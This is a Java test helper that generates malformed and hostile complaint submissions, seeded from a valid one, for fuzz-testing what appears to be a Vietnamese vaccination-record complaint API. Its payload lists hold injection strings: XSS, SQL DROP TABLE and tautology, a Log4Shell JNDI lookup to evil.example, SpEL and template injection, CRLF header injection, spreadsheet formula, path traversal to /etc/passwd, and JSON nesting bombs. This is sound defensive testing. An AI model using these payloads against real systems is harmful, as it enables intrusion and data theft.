package vn.minhxac.complaint;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import com.fasterxml.jackson.databind.node.ArrayNode;
import com.fasterxml.jackson.databind.node.JsonNodeFactory;
import com.fasterxml.jackson.databind.node.ObjectNode;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.math.BigInteger;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.HashSet;
import java.util.List;
import java.util.Random;
import java.util.Set;
import java.util.UUID;
import java.util.function.Consumer;
import java.util.zip.GZIPOutputStream;

/** Complaints as a hostile caller would send them, each made from a good one; knows of each whether it still is one. */
final class MalformedComplaints {

    /** In whatever is sent: nothing of it may come back or be logged. */
    static final String MARK = "Qzxv7";
    private static final JsonNodeFactory NODES = JsonNodeFactory.instance;
    private static final List<String> NASTY = List.of("<script>alert('" + MARK + "')</script>", "'; DROP TABLE complaint; --" + MARK,
            "${jndi:ldap://evil.example/" + MARK + "}", "%s%n%x%p" + MARK, "../../../../etc/passwd" + MARK, "\u0000" + MARK, MARK + "\u0007\u001b[31m",
            "\ud83d\udc89" + MARK, "\u202e" + MARK, MARK + "\ud800", "\udfff" + MARK, MARK + "\ue000", "#{T(java.lang.Runtime).getRuntime()}" + MARK,
            "{{constructor.constructor('" + MARK + "')()}}", "\r\nBcc: " + MARK + "@evil.example", "=cmd|'/C calc'!A0" + MARK,
            "a" + "\u0301\u0323\u0336".repeat(30) + MARK);
    private static final List<String> FORBIDDEN_IN_TEXT = List.of("\u0000", "\u0008", "\u001b", "\ud800", "\udc00", "\u202e", "\u2066", "\ue000", "\uffff", "\u0085");
    private static final List<String> DATES = List.of("1990-02-30", "1990-13-01", "0000-00-00", "9999-12-31", "-990-01-01", "+1990-01-01", "1990-1-2",
            "02/01/1990", "1990-01-02T00:00:00Z", "\uff11990-01-02", "1700-01-01", "2090-01-01", "", " ", "today");
    private static final List<String> REQUIRED = List.of("fullName", "sex", "dateOfBirth", "idType", "idNumber", "phone", "type", "description");

    private final ObjectMapper json;
    private final Random random;
    private int n;

    MalformedComplaints(ObjectMapper json, long seed) {
        this.json = json;
        this.random = new Random(seed);
    }

    /** @param good whether it is a complaint that must be taken */
    record Sent(byte[] body, String contentType, String encoding, boolean good, String what) {
    }

    Sent next() throws IOException {
        n++;
        ObjectNode complaint = good();
        List<String> what = new ArrayList<>();
        Set<String> touched = new HashSet<>();
        boolean good = random.nextInt(20) == 0;
        if (good || random.nextInt(4) == 0) {
            what.add(harmless(complaint));
        }
        if (good) {
            return sent(complaint, true, what);
        }
        if (random.nextInt(6) == 0) {
            return broken(complaint);
        }
        for (int i = random.nextInt(3); i >= 0; i--) {
            spoil(complaint, touched, what);
        }
        return sent(complaint, false, what);
    }

    private Sent sent(ObjectNode complaint, boolean good, List<String> what) throws IOException {
        return new Sent(bytes(complaint), "application/json", null, good, String.join(", ", what));
    }

    /** With half a surrogate pair, JSON has to be written in ASCII. */
    private byte[] bytes(JsonNode complaint) throws IOException {
        StringBuilder ascii = new StringBuilder();
        for (char c : json.writeValueAsString(complaint).toCharArray()) {
            ascii.append(c < 0x7f ? String.valueOf(c) : "\\u%04x".formatted((int) c));
        }
        return ascii.toString().getBytes(StandardCharsets.US_ASCII);
    }

    /** One's own phone each time: a phone gets few codes. */
    private ObjectNode good() {
        ObjectNode complaint = NODES.objectNode().put("fullName", "Lê Thị Hòa").put("sex", "F").put("dateOfBirth", "1990-01-02").put("idType", "CCCD")
                .put("idNumber", "019190000123").put("phone", "09%08d".formatted(n)).put("email", "hoa" + MARK + "@example.vn")
                .put("type", "WRONG_DOSE_INFO").put("description", "Thông tin mũi tiêm chưa đúng " + MARK);
        complaint.putObject("place").put("facilityCode", "19001").put("communeCode", "05431");
        complaint.putArray("doses").add(dose(1, "2021-09-05")).add(dose(2, "2021-10-05"));
        complaint.putArray("attachments");
        return complaint;
    }

    private static ObjectNode dose(int number, String date) {
        return NODES.objectNode().put("doseNumber", number).put("date", date).put("vaccine", "PFIZER").put("lotNumber", "FK0112").put("facilityCode", "19001");
    }

    private String harmless(ObjectNode complaint) {
        return switch (random.nextInt(8)) {
            case 0 -> named("unknown field", complaint, c -> c.put(NASTY.get(random.nextInt(6)), MARK));
            case 1 -> named("no e-mail", complaint, c -> c.put("email", random.nextBoolean() ? " " : ""));
            case 2 -> named("blanks in the phone", complaint, c -> c.put("phone", "+84 " + c.get("phone").asText().substring(1, 4) + "." + c.get("phone").asText().substring(4)));
            case 3 -> named("decomposed name", complaint, c -> c.put("fullName", "  Le\u0302 Thi\u0323  Ho\u0300a "));
            case 4 -> named("no doses", complaint, c -> c.putNull("doses"));
            case 5 -> named("no place", complaint, c -> c.remove("place"));
            case 6 -> named("deep but unknown", complaint, c -> c.set("x", nested(200)));
            default -> named("markup in the words", complaint, c -> c.put("description", NASTY.get(random.nextInt(5)) + " \ud83d\udc89 \u0111\u00fang"));
        };
    }

    private static String named(String what, ObjectNode complaint, Consumer<ObjectNode> change) {
        change.accept(complaint);
        return what;
    }

    private void spoil(ObjectNode complaint, Set<String> touched, List<String> what) {
        String target = pick(List.of("required", "required", "required", "email", "doses", "dose", "dose", "place", "attachments"));
        String field = target.equals("required") ? pick(REQUIRED) : target;
        if (!touched.add(field) || field.equals("dose") && !touched.add("doses") || field.equals("doses") && !touched.add("dose")) {
            return;
        }
        JsonNode value = switch (field) {
            case "description" -> description();
            case "dateOfBirth" -> random.nextBoolean() ? text(pick(DATES)) : wrong();
            case "email" -> random.nextInt(3) == 0 ? text(pick(List.of("a@b", "@example.vn", "a@@example.vn", "a b@example.vn", "a@example.vn\r\nBcc: x@y.vn",
                    "\"a b\"@example.vn", "a@[127.0.0.1]", "<a@example.vn>", "a@example.vn,b@example.vn", "a@-example.vn", "x".repeat(250) + "@example.vn"))) : wrong();
            case "doses" -> doses();
            case "dose" -> oneDose();
            case "place" -> place();
            case "attachments" -> attachments();
            default -> random.nextInt(4) == 0 ? missing() : wrong();
        };
        complaint.set(field.equals("dose") ? "doses" : field, value);
        what.add(field + " = " + (value.toString().length() > 60 ? value.toString().substring(0, 60) + "…" : value.toString()));
    }

    private JsonNode missing() {
        return random.nextBoolean() ? NODES.nullNode() : text(pick(List.of("", " ", "\u00a0", "\u200b", "\ufeff")));
    }

    /** What no field of one word takes. */
    private JsonNode wrong() {
        return switch (random.nextInt(10)) {
            case 0 -> NODES.objectNode().put(MARK, 1);
            case 1 -> NODES.arrayNode().add(MARK);
            case 2 -> nested(random.nextInt(1, 3000));
            case 3 -> NODES.numberNode(random.nextInt(1_000_000));
            case 4 -> NODES.booleanNode(random.nextBoolean());
            case 5 -> text((MARK + "x").repeat(random.nextInt(60, 3_000)));
            case 6 -> random.nextInt(10) == 0 ? text(MARK.repeat(200_000)) : text("9".repeat(500));
            default -> text(pick(NASTY));
        };
    }

    private JsonNode description() {
        return switch (random.nextInt(5)) {
            case 0 -> text((MARK + " ").repeat(400));
            case 1 -> random.nextBoolean() ? NODES.nullNode() : text(pick(List.of("", " ", "\n\t ")));
            case 2 -> random.nextBoolean() ? NODES.objectNode() : nested(random.nextInt(1, 3000));
            default -> text("Mũi " + pick(FORBIDDEN_IN_TEXT) + " tiêm " + MARK);
        };
    }

    private JsonNode doses() {
        return switch (random.nextInt(6)) {
            case 0 -> many(random.nextInt(11, 3_000), dose(1, "2021-09-05"));
            case 1 -> NODES.arrayNode().addNull();
            case 2 -> text(MARK);
            case 3 -> NODES.arrayNode().add(dose(1, "2021-09-05")).add(dose(1, "2021-10-05"));
            case 4 -> nested(random.nextInt(2, 3000));
            default -> NODES.objectNode().put("doseNumber", 1);
        };
    }

    private JsonNode oneDose() {
        ObjectNode dose = dose(1, "2021-09-05");
        String field = pick(List.of("doseNumber", "date", "vaccine", "lotNumber", "facilityCode"));
        dose.set(field, switch (field) {
            case "doseNumber" -> pick(List.<JsonNode>of(NODES.numberNode(0), NODES.numberNode(-1), NODES.numberNode(11), NODES.numberNode(1L << 31),
                    NODES.numberNode(new BigInteger("9".repeat(900))), NODES.numberNode(1e300), text(MARK), NODES.nullNode(), NODES.arrayNode(), text("1e400")));
            case "date" -> text(pick(List.of("2021-03-07", "2021-02-29", "2099-01-01", "05/09/2021", "2021-09-05" + MARK, "", "\u0000")));
            case "vaccine" -> random.nextBoolean() ? wrong() : missing();
            case "lotNumber" -> random.nextBoolean() ? text("L".repeat(41)) : text(pick(NASTY.subList(0, 4)));
            default -> random.nextBoolean() ? text(pick(List.of("99999", "0", "19001' or '1'='1", "19001\u0000", "1".repeat(500)))) : text(pick(NASTY));
        });
        return NODES.arrayNode().add(dose(2, "2021-10-05")).add(dose);
    }

    private JsonNode place() {
        ObjectNode place = NODES.objectNode();
        switch (random.nextInt(5)) {
            case 0 -> place.put("facilityCode", "19001").put("communeCode", "05434");
            case 1 -> place.put(pick(List.of("facilityCode", "communeCode", "districtCode", "provinceCode")), pick(NASTY));
            case 2 -> place.put(pick(List.of("facilityCode", "communeCode", "districtCode")), "99999");
            case 3 -> place.put("abroad", MARK);
            default -> {
                return random.nextBoolean() ? text(MARK) : NODES.arrayNode().add(1);
            }
        }
        return place;
    }

    private JsonNode attachments() {
        return switch (random.nextInt(6)) {
            case 0 -> NODES.arrayNode().add("../../" + MARK + ".jpg");
            case 1 -> NODES.arrayNode().add(new UUID(random.nextLong(), random.nextLong()).toString());
            case 2 -> many(random.nextInt(6, 1_500), text(new UUID(1, 2).toString()));
            case 3 -> NODES.arrayNode().addNull();
            case 4 -> NODES.arrayNode().add(NODES.objectNode().put("url", "file:///etc/" + MARK));
            default -> text(MARK);
        };
    }

    /** What is no JSON, or no complaint at all. */
    private Sent broken(ObjectNode complaint) throws IOException {
        byte[] good = bytes(complaint);
        return switch (random.nextInt(10)) {
            case 0 -> bad(Arrays.copyOf(good, random.nextInt(good.length)), "cut off");
            case 1 -> bad(new byte[0], "empty");
            case 2 -> bad(pick(List.of("null", "[]", "\"" + MARK + "\"", "42", "true", "NaN", "<complaint>" + MARK + "</complaint>", "fullName=" + MARK,
                    "{\"fullName\":NaN}", "{'fullName':'" + MARK + "'}", "{/*" + MARK + "*/}", "{\"a\":}", "{,}")).getBytes(StandardCharsets.UTF_8), "no complaint");
            case 3 -> bad(("[".repeat(random.nextInt(1_001, 30_000))).getBytes(StandardCharsets.UTF_8), "bomb of arrays");
            case 4 -> bad(("{\"a\":".repeat(random.nextInt(1_001, 12_000))).getBytes(StandardCharsets.UTF_8), "bomb of objects");
            case 5 -> bad(invalidUtf8(complaint), "broken UTF-8");
            case 6 -> new Sent(good, pick(List.of("text/plain", "application/xml", "application/x-www-form-urlencoded", "multipart/form-data; boundary=x",
                    "application/octet-stream", "text/html", "application/json-seq")), null, false, "wrong content type");
            case 7 -> new Sent(zipped(good), "application/json", "gzip", false, "gzip");
            case 8 -> bad(("{\"sex\":\"F\"," + new String(good, StandardCharsets.US_ASCII).substring(1, good.length - 1) + ",\"sex\":\"" + MARK + "\"}")
                    .getBytes(StandardCharsets.US_ASCII), "twice the same field");
            default -> bad(new String(good, StandardCharsets.US_ASCII).replace("\"doseNumber\":2", "\"doseNumber\":" + "9".repeat(random.nextInt(11, 5_000)))
                    .replace("\"doses\":null", "\"doses\":[{\"doseNumber\":1e99999}]").getBytes(StandardCharsets.US_ASCII), "endless number");
        };
    }

    private static Sent bad(byte[] body, String what) {
        return new Sent(body, "application/json", null, false, what);
    }

    private byte[] invalidUtf8(ObjectNode complaint) throws IOException {
        byte[] body = json.writeValueAsBytes(complaint.put("fullName", "@@" + MARK));
        int at = new String(body, StandardCharsets.ISO_8859_1).indexOf("@@");
        byte[] pair = pick(List.of(new byte[] {(byte) 0xc3, 0x28}, new byte[] {(byte) 0xff, (byte) 0xfe}, new byte[] {(byte) 0xc0, (byte) 0x80}));
        System.arraycopy(pair, 0, body, at, 2);
        return body;
    }

    private static byte[] zipped(byte[] body) throws IOException {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        try (GZIPOutputStream zip = new GZIPOutputStream(out)) {
            zip.write(body);
        }
        return out.toByteArray();
    }

    private static JsonNode nested(int depth) {
        JsonNode node = NODES.arrayNode();
        for (int i = 1; i < Math.min(depth, 900); i++) {
            node = NODES.arrayNode().add(node);
        }
        return node;
    }

    private static ArrayNode many(int count, JsonNode node) {
        ArrayNode array = NODES.arrayNode();
        for (int i = 0; i < count; i++) {
            array.add(node);
        }
        return array;
    }

    private static JsonNode text(String text) {
        return NODES.textNode(text);
    }

    private <T> T pick(List<T> from) {
        return from.get(random.nextInt(from.size()));
    }
}
